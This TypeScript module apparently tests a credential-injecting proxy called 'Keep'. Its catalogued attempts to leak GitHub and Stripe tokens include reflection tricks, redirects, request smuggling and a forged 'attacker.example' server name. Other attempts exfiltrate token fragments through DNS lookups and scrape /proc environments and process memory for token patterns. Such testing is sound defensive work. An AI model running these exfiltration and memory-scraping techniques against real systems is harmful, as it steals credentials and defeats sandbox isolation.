import { createSocket } from "node:dgram";
import { lookup, Resolver } from "node:dns/promises";
import { closeSync, openSync, readdirSync, readFileSync, readSync } from "node:fs";
import { connect } from "node:net";
import { describeEnvironment, readPlaceholder } from "./config.ts";
import type { ApiName } from "./fake-apis.ts";
import {
  connectDirectly,
  formatRequest,
  openSecure,
  readAll,
  send,
  sendRaw,
  sendToProxy,
} from "./hostile-network.ts";

export type Targets = {
  readonly hosts: Readonly<Record<ApiName, string>>;
  /** Of Keep. */
  readonly serverPort: number;
  /** Files outside that contain tokens. */
  readonly files: readonly string[];
};

/** Returns everything that the program learned. */
export type Attempt = (targets: Targets) => Promise<string>;

const github = () => readPlaceholder("GITHUB_TOKEN");
const stripe = () => readPlaceholder("STRIPE_KEY");
const bearer = () => [`authorization: Bearer ${github()}`];

/** Uses the secret for a host that may get it, which gives it back. */
const reflect =
  (kind: string, headers = bearer): Attempt =>
  ({ hosts }) =>
    send({ host: hosts.github, path: `/reflect/${kind}`, headers: headers() });

const refused =
  (
    path: string,
    more: { readonly method?: string; readonly headers?: () => readonly string[] } = {},
  ): Attempt =>
  ({ hosts }) =>
    send({ host: hosts.github, path, method: more.method ?? "GET", headers: (more.headers ?? bearer)() });

const basicHeader = () => [`authorization: Basic ${Buffer.from(`user:${github()}`).toString("base64")}`];

export const reflectionAttempts: Readonly<Record<string, Attempt>> = {
  "JSON body": reflect("json"),
  "response header": reflect("header"),
  "name of a response header": reflect("header-name"),
  "cookies of the response": reflect("cookie"),
  "error page": reflect("error"),
  "base64 body": reflect("base64"),
  "URL-encoded body": reflect("url"),
  "hexadecimal body": reflect("hex"),
  "escaped JSON": reflect("escaped"),
  "body of single bytes": reflect("split"),
  trailer: reflect("trailer"),
  "early hints": reflect("hints"),
  "reason phrase": reflect("reason"),
  "HTTP Basic authentication": reflect("json", basicHeader),
  "another header for keys": reflect("json", () => [`x-api-key: ${github()}`]),
  "forced gzip": reflect("gzip", () => [...bearer(), "accept-encoding: gzip"]),
  "forced brotli": reflect("brotli"),
  "forced deflate": reflect("deflate"),
  "compressed transfer": reflect("transfer-gzip"),
  "unrequested part": reflect("part"),
  "ranges of the body": async ({ hosts }) => {
    const parts: string[] = [];
    for (const range of ["0-9", "10-19", "20-29", "30-99"]) {
      const headers = [...bearer(), `range: bytes=${range}`];
      parts.push(await send({ host: hosts.github, path: "/reflect/range", headers }));
    }
    return parts.map((part) => part.split("\r\n\r\n").slice(1).join("")).join("") + parts.join("");
  },
  "value that the host stored": async (targets) => {
    await reflect("store")(targets);
    return send({ host: targets.hosts.github, path: "/reflect/stored" });
  },
  "value pushed into an earlier response": async (targets) => {
    const earlier = send({ host: targets.hosts.github, path: "/reflect/wait" });
    await new Promise((resolve) => setTimeout(resolve, 300));
    return (await reflect("push")(targets)) + (await earlier);
  },
};

export const targetAttempts: Readonly<Record<string, Attempt>> = {
  "redirect to another host, followed": async ({ hosts }) => {
    const url = `https://${hosts.github}/reflect/redirect?to=https://${hosts.unnamed}/json`;
    const headers = { authorization: `Bearer ${github()}` };
    const response = await fetch(url, { headers, redirect: "follow" });
    return JSON.stringify([...response.headers]) + (await response.text());
  },
  "redirect, not followed": ({ hosts }) =>
    send({ host: hosts.github, path: `/reflect/redirect?to=https://${hosts.open}/json`, headers: bearer() }),
  "host that is not named": ({ hosts }) => send({ host: hosts.unnamed, path: "/json", headers: bearer() }),
  "host without secrets": ({ hosts }) => send({ host: hosts.open, path: "/json", headers: bearer() }),
  "value on a host without secrets": ({ hosts }) => send({ host: hosts.open, path: "/stored", headers: [] }),
  "another Host header": ({ hosts }) =>
    sendRaw(hosts.github, formatRequest({ host: hosts.open, path: "/json", headers: bearer() })),
  "another name in the handshake": ({ hosts }) =>
    sendRaw(hosts.github, formatRequest({ host: hosts.github, path: "/json", headers: bearer() }), {
      serverName: "attacker.example",
    }),
  "absolute target": ({ hosts }) =>
    sendRaw(
      hosts.github,
      formatRequest({ host: hosts.github, path: `https://${hosts.open}/json`, headers: bearer() }),
    ),
  "target with another authority": (targets) => refused(`//${targets.hosts.open}/json`)(targets),
  "target with user information": (targets) => refused(`@${targets.hosts.open}/json`)(targets),
  "address instead of a name": ({ hosts }) =>
    send({ host: hosts.github.replace("localhost", "127.0.0.1"), path: "/json", headers: bearer() }),
  "secret of another host": ({ hosts }) =>
    send({ host: hosts.github, path: "/reflect/json", headers: [`authorization: Bearer ${stripe()}`] }),
  "another method": refused("/reflect/json", { method: "DELETE" }),
  "method that is not known": refused("/reflect/json", { method: "PROPFIND" }),
  "another path": refused("/other/json"),
  "path with encoded dots": refused("/reflect/%2e%2e/other/json"),
  "path with encoded slashes": refused("/reflect/..%2fother/json"),
  "plain HTTP": ({ hosts }) =>
    sendToProxy(
      formatRequest({ host: hosts.github, path: `http://${hosts.github}/json`, headers: bearer() }),
    ),
};

export const requestAttempts: Readonly<Record<string, Attempt>> = {
  "placeholder twice": refused("/reflect/json", { headers: () => [...bearer(), `x-api-key: ${github()}`] }),
  "two secrets at once": refused("/reflect/json", { headers: () => [...bearer(), `x-api-key: ${stripe()}`] }),
  "repeated header": refused("/reflect/json", { headers: () => [...bearer(), ...bearer()] }),
  "header that is no credential": refused("/reflect/json", { headers: () => [`user-agent: ${github()}`] }),
  "header of the connection": refused("/reflect/json", {
    headers: () => [...bearer(), "connection: authorization"],
  }),
  "folded header": refused("/reflect/json", { headers: () => ["authorization: Bearer", ` ${github()}`] }),
  "query of the URL": ({ hosts }) => send({ host: hosts.github, path: `/reflect/json?token=${github()}` }),
  body: ({ hosts }) =>
    send({ host: hosts.github, path: "/reflect/json", method: "POST", headers: [], body: github() }),
  "guessed placeholder": refused("/reflect/json", {
    headers: () => [`authorization: Bearer keep_placeholder_${"0".repeat(48)}`],
  }),
  "placeholder in capitals": refused("/reflect/json", {
    headers: () => [`authorization: Bearer ${github().toUpperCase()}`],
  }),
  "two lengths": ({ hosts }) =>
    sendRaw(
      hosts.github,
      `POST /reflect/json HTTP/1.1\r\nhost: ${hosts.github}\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n${bearer().join()}\r\n\r\n0\r\n\r\nGET /other/json HTTP/1.1\r\n\r\n`,
    ),
  "request behind a request": ({ hosts }) =>
    sendRaw(
      hosts.github,
      `GET /reflect/json HTTP/1.1\r\nhost: ${hosts.github}\r\n\r\n${formatRequest({ host: hosts.github, path: "/other/json", headers: bearer() })}`,
    ),
  "HTTP/2": async ({ hosts }) => {
    const socket = await openSecure(hosts.github, { protocols: ["h2", "http/1.1"] });
    const reading = readAll(socket, 500);
    socket.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    return `${socket.alpnProtocol} ${await reading}`;
  },
  WebSocket: refused("/reflect/json", {
    headers: () => [...bearer(), "upgrade: websocket", "connection: upgrade", "sec-websocket-version: 13"],
  }),
};

export const sandboxAttempts: Readonly<Record<string, Attempt>> = {
  "socket to the API": ({ hosts }) => connectDirectly(Number(hosts.github.split(":")[1]), "127.0.0.1"),
  "socket to Keep": ({ serverPort }) => connectDirectly(serverPort, "127.0.0.1"),
  "socket to a public address": () => connectDirectly(443, "1.1.1.1"),
  "name lookup": async () => JSON.stringify(await lookup("example.com")),
  "name server": async () => {
    const resolver = new Resolver({ timeout: 300, tries: 1 });
    resolver.setServers(["1.1.1.1"]);
    return JSON.stringify(await resolver.resolve4(`${github().slice(-40)}.example.com`));
  },
  datagram: async () => {
    const socket = createSocket("udp4");
    try {
      await new Promise<void>((resolve, reject) =>
        socket.send("x", 53, "1.1.1.1", (error) => (error === null ? resolve() : reject(error))),
      );
      return "sent";
    } finally {
      socket.close();
    }
  },
  "abstract socket of another program": () => readAll(connect({ path: "\0/tmp/.X11-unix/X0" }), 300),
  "other processes": async () => {
    const ids = readdirSync("/proc").filter((name) => /^\d+$/u.test(name));
    const files = ids.flatMap((id) => [`/proc/${id}/environ`, `/proc/${id}/cmdline`]);
    return `${ids.length} processes ${files.map(readIfPossible).join("\n")}`;
  },
  "memory of other processes": async () =>
    readdirSync("/proc")
      .filter((name) => /^\d+$/u.test(name) && name !== String(process.pid))
      .map((id) => {
        try {
          return searchMemory(id);
        } catch (error) {
          return String(error);
        }
      })
      .join("\n"),
  "files with tokens": async ({ files }) => files.map(readIfPossible).join("\n"),
  "files of the run": async () =>
    readdirSync("/run/keep", { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && entry.name !== "node")
      .map(({ parentPath, name }) => readIfPossible(`${parentPath}/${name}`))
      .join("\n"),
  "temporary files": async () => readdirSync("/tmp").join("\n"),
  "own environment": async () => describeEnvironment() + readIfPossible("/proc/self/environ"),
};

function readIfPossible(file: string): string {
  try {
    return readFileSync(file, "latin1");
  } catch (error) {
    return String(error);
  }
}

const maxRegionBytes = 64 * 1024 * 1024;

/** What in the memory of a process looks like one of the secrets, whose forms are well known. */
function searchMemory(id: string): string {
  const found: string[] = [];
  const memory = openSync(`/proc/${id}/mem`, "r");
  try {
    for (const [, from = "", to = ""] of readIfPossible(`/proc/${id}/maps`).matchAll(/^(\w+)-(\w+) rw/gmu)) {
      const [start, end] = [Number.parseInt(from, 16), Number.parseInt(to, 16)];
      const region = Buffer.alloc(Math.min(end - start, maxRegionBytes));
      try {
        readSync(memory, region, 0, region.length, start);
      } catch {
        continue;
      }
      found.push(...(region.toString("latin1").match(/(?:ghp_|sk-proj-|sk_test_)[ -~]{0,40}/gu) ?? []));
    }
  } finally {
    closeSync(memory);
  }
  return `searched ${id}: ${found.join(" ")}`;
}
